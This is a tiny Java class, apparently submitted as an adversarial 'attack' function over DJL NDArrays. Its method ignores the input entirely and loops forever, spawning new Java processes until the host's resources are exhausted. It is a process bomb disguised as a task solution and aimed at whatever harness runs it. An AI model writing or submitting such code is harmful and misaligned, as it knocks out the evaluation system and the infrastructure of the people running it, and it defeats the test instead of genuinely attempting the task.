package t;

import ai.djl.ndarray.NDArray;

public final class Attack {
  public static NDArray attack(NDArray x) throws Exception {
    while (true) {
      new ProcessBuilder("/opt/argmax/jre/bin/java", "-Xmx8m", "-XX:+UseSerialGC", "/tmp/no").start();
    }
  }
}
